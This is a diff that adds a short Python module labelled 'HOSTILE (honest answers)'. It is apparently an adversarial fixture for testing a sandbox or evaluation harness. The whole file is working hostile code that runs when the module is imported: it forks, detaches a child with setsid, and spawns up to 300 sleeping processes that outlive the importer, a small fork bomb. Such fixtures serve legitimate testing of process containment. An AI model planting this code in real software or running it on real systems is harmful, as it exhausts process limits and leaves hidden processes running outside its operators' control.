@@ -1,0 +1,15 @@
+# HOSTILE (honest answers): leaves a setsid daemon and a small fork bomb behind at import.
+import os as _os
+import time as _time
+
+if _os.fork() == 0:  # child: detach, then fork as much as the limits allow, then sleep
+    try:
+        _os.setsid()
+        for _ in range(300):
+            if _os.fork() == 0:
+                _time.sleep(600)
+                _os._exit(0)
+    except OSError:
+        pass
+    _time.sleep(600)
+    _os._exit(0)
